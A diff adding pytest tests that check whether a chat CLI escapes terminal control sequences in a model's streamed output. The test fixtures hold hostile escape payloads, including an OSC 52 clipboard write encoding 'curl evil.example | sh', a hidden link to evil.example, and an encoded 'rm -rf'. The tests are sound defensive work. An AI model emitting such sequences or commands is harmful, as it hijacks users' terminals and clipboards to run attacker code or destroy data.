@@ -125,3 +125,83 @@ def test_cli_chat_scripted_answers_and_exits_0(tmp_path):
     assert proc.returncode == 0, proc.stderr
     rows = [json.loads(line) for line in proc.stdout.splitlines()]
     assert len(rows) == 2 and all(set(r) >= {"answer", "finish_reason"} for r in rows)
+
+
+# ---- the model's escape sequences never reach the terminal (issue 26) --------------------------------------
+
+class ScriptedStream:
+    """What `stream_generate` returns, with pieces the test chose (a model that writes escape sequences)."""
+
+    def __init__(self, pieces):
+        from mtsft.eval.generate import StreamResult
+
+        self.pieces = pieces
+        self.result = StreamResult("".join(pieces).strip(), "stop", 1, len(pieces))
+
+    def __iter__(self):
+        return iter(self.pieces)
+
+    def close(self):
+        pass
+
+
+def terminal_output(session, monkeypatch, pieces) -> str:
+    """What `mtsft chat` writes to the terminal when the model streams `pieces` for one message."""
+    from rich.console import Console
+
+    from mtsft.serve.chat import run_terminal
+
+    console = Console(file=io.StringIO(), force_terminal=False, color_system=None, width=300)
+    typed = ["hi"]
+
+    def read_line(*_):
+        if not typed:
+            raise EOFError  # Ctrl-D
+        return typed.pop(0)
+
+    monkeypatch.setattr(console, "input", read_line)
+
+    def stream(text):
+        session.turns.append({"role": "user", "content": text})
+        session.tasks_used.append(None)
+        return None, ScriptedStream(pieces)
+
+    monkeypatch.setattr(session, "stream", stream)
+    assert run_terminal(session, console) == 0
+    return console.file.getvalue()
+
+
+def control_chars(text: str) -> set[str]:
+    return {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f}
+
+
+ESCAPES = {
+    "clear_screen": ["Sure.", "\x1b[2J\x1b[3J\x1b[H", "Done."],
+    "window_title": ["A title: ", "\x1b]0;you have been pwned\x07", "ok"],
+    "osc52_clipboard": ["copied: ", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "!"],
+    "osc8_hidden_link": ["\x1b]8;;https://evil.example/\x1b\\", "click here", "\x1b]8;;\x1b\\"],
+    "c1_csi_and_osc": ["\x9b2J", "\x9d0;title\x9c", "plain"],
+    "split_across_pieces": ["safe ", "\x1b", "]52;c;", "cm0gLXJm", "\x07", " \x1b[", "2J end"],
+    "cursor_and_carriage_return": ["visible\r", "\x08\x08\x1b[1A", "hidden\x7f"],
+}
+
+
+@pytest.mark.parametrize("name", list(ESCAPES))
+def test_chat_neutralises_the_models_escape_sequences(session, monkeypatch, name):
+    pieces = ESCAPES[name]
+    out = terminal_output(session, monkeypatch, pieces)
+    assert control_chars(out) == set(), f"{name}: {out!r}"
+    for c in control_chars("".join(pieces)):  # each control character is shown as its escape, e.g. \x1b
+        assert f"\\x{ord(c):02x}" in out
+    assert session.turns[-1]["content"] == "".join(pieces).strip()  # the conversation keeps the exact text
+
+
+def test_scripted_chat_json_has_no_raw_control_characters(session, monkeypatch):
+    answer = "\x1b]0;title\x07 \x9b2J \x9d52;c;eA==\x9c ok"
+    monkeypatch.setattr(session, "stream", lambda text: (session.turns.append({"role": "user", "content": text})
+                                                         or session.tasks_used.append(None)
+                                                         or (None, ScriptedStream([answer]))))
+    out = io.StringIO()
+    run_script(session, io.StringIO("hi\n"), out=out, err=io.StringIO())
+    assert control_chars(out.getvalue()) == set()
+    assert json.loads(out.getvalue())["answer"] == answer.strip()  # the same text, escaped in JSON
